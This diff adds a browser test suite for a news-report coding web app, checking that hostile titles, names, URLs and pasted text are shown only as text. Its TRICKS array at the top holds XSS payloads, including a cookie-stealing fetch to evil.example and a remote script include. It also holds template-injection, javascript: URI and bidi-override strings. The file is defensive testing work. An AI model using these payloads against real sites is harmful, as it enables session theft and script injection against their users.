@@ -1,0 +1,133 @@
+/** Texts, titles and names full of scripts and direction marks: the page shows them as text and does nothing else. */
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { incidentsOf } from "../../src/incidents/index.js";
+import type { Incident, Report } from "../../src/records/index.js";
+import { NO_BROWSER, openBrowser, openPage, type Browser } from "./browser.js";
+import { coded, openRoom, type TestRoom } from "./room.js";
+
+const TRICKS = [
+  `<img src=x onerror=alert(1)>`,
+  `<svg onload="fetch('http://evil.example/'+document.cookie)">`,
+  `"><script src=//evil.example/x.js></script>`,
+  `javascript:alert(1)`,
+  `{{constructor.constructor('alert(1)')()}}`,
+  `</textarea><iframe srcdoc="<script>parent.alert(1)</script>">`,
+  `\u202egnissim\u202c \u2066\u2067 \u200b\ufeff`,
+  `__proto__`,
+];
+const TRICK = TRICKS.join(" ");
+
+/** A coded report in which every string from outside is a trick. */
+function poisoned(report: Report): Report {
+  return {
+    ...report,
+    document: {
+      ...report.document,
+      title: TRICK,
+      publisher: TRICKS[0]!,
+      byline: [TRICKS[2]!],
+      uri: "javascript:alert(1)",
+      origin: { ...report.document.origin, path: `${TRICKS[0]!}.txt`, record: TRICKS[1]! },
+    },
+    entities: report.entities.map((entity, i) => ({ ...entity, name: TRICKS[i % TRICKS.length]! })),
+    messages: [{ code: "truncated", step: "x", severity: "warning", text: TRICK }],
+  };
+}
+
+describe.skipIf(NO_BROWSER)(`hostile records${NO_BROWSER ? ` (skipped: ${NO_BROWSER})` : ""}`, () => {
+  let room: TestRoom;
+  let browser: Browser;
+  let page: Page;
+  let faults: string[];
+  let report: Report;
+  let incident: Incident;
+
+  beforeAll(async () => {
+    const text = `GAO, Mali, March 4, 2024 – Rebels ${TRICKS[0]!} bombed the market in Gao on Sunday, the army said.\n\n"${TRICK}," said the minister ${TRICKS[1]!}.\n\nThe \u202efront\u202c denied that its men had attacked Gao.\n`;
+    report = poisoned(await coded(text));
+    const again = poisoned(await coded(`${text}\nThe council demanded talks.`));
+    [incident] = incidentsOf([report, again]) as [Incident];
+    incident = { ...incident, title: TRICK, parties: incident.parties.map((party) => ({ ...party, name: TRICK })) };
+    room = await openRoom([report, again], [incident]);
+    browser = await openBrowser();
+    const opened = await openPage(browser.context, room.url);
+    page = opened.page;
+    faults = opened.faults.list;
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await room?.close();
+  });
+
+  const nothingRan = async (): Promise<void> => {
+    await page.waitForTimeout(300);
+    expect(faults).toEqual([]);
+    expect(await page.locator("#app script, #app iframe, #app img, #app [onerror], #app [onload]").count()).toBe(0);
+    expect(await page.locator('#app a[href^="javascript:"]').count()).toBe(0);
+    expect(
+      await page.evaluate(() => /[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText + document.title)),
+    ).toBe(false);
+  };
+
+  test("a report", async () => {
+    await page.goto(`${room.url}/reports/${encodeURIComponent(report.document.id)}`);
+    await page.locator(".words").first().waitFor();
+    expect(await page.locator("h1").textContent()).toContain(TRICKS[0]);
+    expect(await page.locator("h1 .control").first().textContent()).toBe("RLO");
+    expect(await page.locator(".words .control").count()).toBeGreaterThan(2);
+    for (const details of await page.locator(".told summary").all()) await details.click();
+    await page.getByRole("button", { name: /Loaded words/ }).click();
+    await nothingRan();
+  });
+
+  test("an incident", async () => {
+    await page.goto(`${room.url}/incidents/${incident.id}`);
+    await page.locator(".matrix").waitFor();
+    await page.locator(".map .land").waitFor();
+    await nothingRan();
+  });
+
+  test("lists, facets, map and network", async () => {
+    for (const path of [
+      "/",
+      "/explore",
+      "/explore?in=reports",
+      "/explore?in=attributions",
+      "/explore?show=map",
+      "/explore?show=network",
+    ]) {
+      await page.goto(room.url + path);
+      await page.locator("main a, main button").first().waitFor();
+      await nothingRan();
+    }
+  });
+
+  test("an address", async () => {
+    const trick = encodeURIComponent(TRICK);
+    for (const path of [
+      `/explore?q=${trick.slice(0, 150)}`,
+      `/explore?actor=${encodeURIComponent(TRICKS[0]!)}`,
+      `/reports/${trick}`,
+      `/incidents/${trick}`,
+      `/review?kind=${trick}`,
+    ]) {
+      await page.goto(room.url + path).catch(() => undefined);
+      await page.locator("#app main").waitFor();
+      await page.waitForTimeout(300);
+      const real = faults.filter((fault) => !/console: Failed to load resource.*(400|404|414)/.test(fault));
+      expect(real).toEqual([]);
+      faults.length = 0;
+    }
+  });
+
+  test("what is pasted", async () => {
+    await page.goto(`${room.url}/paste`);
+    await page
+      .locator("textarea")
+      .fill(`Police said ${TRICK} that rebels had attacked Gao on Monday, and the army denied it.`);
+    await page.getByRole("button", { name: "Code it" }).click();
+    await page.locator(".coded .words").first().waitFor({ timeout: 60_000 });
+    await nothingRan();
+  });
+});
